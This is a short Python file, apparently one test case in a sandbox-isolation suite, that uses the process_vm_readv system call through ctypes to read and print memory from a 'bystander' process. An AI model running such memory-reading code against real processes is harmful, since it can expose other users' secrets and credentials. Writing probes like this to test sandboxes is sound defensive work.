"""Reads another process's memory by system call.

kind: process_vm_readv
sandbox: played
process: played, leak?
"""

import ctypes

from attack import Attack, attempt, call


class Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def read(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    here, there = Vector(ctypes.addressof(buffer), length), Vector(address, length)
    call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    print(buffer.raw)


class Read(Attack):
    def attack(self, view):
        attempt(lambda: read(**self.targets["bystander"]))
